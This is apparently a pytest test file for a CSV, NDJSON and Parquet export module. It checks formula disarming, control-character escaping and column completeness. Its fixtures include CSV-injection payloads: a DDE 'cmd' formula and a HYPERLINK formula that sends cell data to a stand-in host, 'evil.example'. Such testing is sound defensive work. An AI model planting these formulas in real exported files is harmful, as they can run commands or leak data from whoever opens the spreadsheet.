"""Tables: formulas are disarmed, controls escaped, numbers stay numbers, columns are complete."""

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pyarrow import parquet

from jmmc.answers.column_types import ColumnKind, Columns
from jmmc.answers.export import SAMPLE_COLUMNS, SUMMARY_COLUMNS
from jmmc.answers.tables import CsvTable, NdjsonTable, table

_STARTERS = "=+-@\t\r＝＋－＠"  # noqa: RUF001 - full-width letters are what is meant.


def _cells(*values: Any) -> list[str]:
    columns = dict.fromkeys((f"c{place}" for place in range(len(values))), ColumnKind.TEXT)
    content = CsvTable(columns).add([dict(zip(columns, values, strict=True))])
    return list(csv.reader(io.StringIO(content.decode(), newline="")))[1]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\uff1d1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?"&A1,"x")',
    ],
)
def test_a_formula_is_a_text(text: str) -> None:
    (cell,) = _cells(text)
    assert cell.startswith("'")
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
def test_text_after_another_separator_is_no_formula_either(separator: str) -> None:
    (cell,) = _cells(f"room{separator}=1+1")
    assert "'=1+1" in cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (-0.5, "-0.5"),
        (7, "7"),
        (None, ""),
        (True, "true"),
        ("Chrome 131", "Chrome 131"),
    ],
)
def test_numbers_and_harmless_texts_are_unchanged(value: Any, cell: str) -> None:
    assert _cells(value) == [cell]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n;,\"' a1＝＠"), max_size=12))  # noqa: RUF001
def test_no_text_becomes_a_formula_wherever_a_spreadsheet_cuts(text: str) -> None:
    content = (
        CsvTable(dict.fromkeys("abc", ColumnKind.TEXT))
        .add([{"a": "x", "b": text, "c": "y"}])
        .decode()
    )
    for delimiter in (",", ";", "\t"):
        rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter))
        for cell in (item for row in rows for item in row):
            assert not cell.lstrip().startswith(tuple(_STARTERS)), (text, delimiter)


@pytest.mark.parametrize(
    "columns", [SAMPLE_COLUMNS, SUMMARY_COLUMNS], ids=["timeline", "summaries"]
)
def test_a_file_without_rows_has_its_columns(columns: Columns) -> None:
    empty = table("csv", columns)
    assert (empty.add([]) + empty.end()).decode() == ",".join(columns) + "\r\n"
    row = dict.fromkeys(columns)
    schemas = []
    for rows in ([], [row]):
        writer = table("parquet", columns)
        content = writer.add(rows) + writer.end()
        schemas.append(parquet.read_schema(io.BytesIO(content)))
    assert schemas[0] == schemas[1]
    assert schemas[0].names == list(columns)
    assert table("ndjson", columns).end() == b""


# C0, ESC, DEL, C1, bidi marks and overrides, zero-width, line separators, tags.
_CONTROLS = "\0\x07\x08\x1b\x7f\x85\x9b\u061c\u200b\u200f\u202e\u2066\u2028\u2029\ufeff\U000e0041"


@pytest.mark.parametrize("control", _CONTROLS, ids=ascii)
def test_csv_has_codes_in_place_of_control_characters(control: str) -> None:
    (cell,) = _cells(f"a{control}b")
    assert cell == f"a{control.encode('unicode_escape').decode()}b"


def test_csv_for_a_terminal_has_one_line_for_each_row() -> None:
    writer = table("csv", {"a": ColumnKind.TEXT}, for_terminal=True)
    content = writer.add([{"a": f"x\r\n\t{_CONTROLS}y"}]) + writer.end()
    assert content.count(b"\n") == 2
    assert content.decode().replace("\r\n", "").isprintable()


@pytest.mark.parametrize(
    "text", ["नमस्\u200dते", "👩\u200d🚒", "\u0645\u06cc\u200c\u062e", "Ünïcode 中文", "a\tb"]
)
def test_csv_keeps_what_scripts_and_emoji_need(text: str) -> None:
    assert _cells(text) == [text]


@given(st.text(max_size=30))
def test_ndjson_keeps_each_text_and_is_printable(text: str) -> None:
    line = NdjsonTable({"a": ColumnKind.TEXT}).add([{"a": text}])
    assert json.loads(line) == {"a": text}
    assert line.decode().removesuffix("\n").isprintable()
